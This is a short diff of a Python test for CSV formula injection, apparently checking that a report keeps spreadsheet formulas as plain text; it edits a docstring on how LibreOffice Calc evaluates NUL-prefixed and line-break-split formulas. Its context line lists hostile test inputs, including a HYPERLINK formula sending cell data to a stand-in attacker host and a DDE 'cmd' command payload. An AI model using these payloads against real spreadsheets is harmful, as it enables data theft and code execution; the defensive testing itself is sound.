@@ -255,8 +255,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"클릭")', "+1+cmd|' /C calc
 """Cell starts a spreadsheet reads as a formula: OWASP's CSV Injection list (=, +, -, @, tab, CR) and
 ASVS 5.0 requirement 1.2.10 (the same and the NUL character); and a formula after a line break
 inside the text, which must stay inside its quoted cell instead of starting a row of its own.
-LibreOffice Calc 7.4 (CSV import with formulas evaluated) computed ``"\x00=1+1"`` and the ``=2+2``
-of an unquoted ``"ok\r=2+2"`` as formulas in a report written before these were handled."""
+LibreOffice Calc 7.4 (CSV import, formulas evaluated) computes an unprefixed ``"\x00=1+1"`` and,
+from an unquoted ``"ok\r=2+2"``, a new row whose first cell is the formula ``=2+2``."""
 
 
 def test_formulas_in_every_free_text_field_stay_text_in_the_report(tmp_path, capsys):
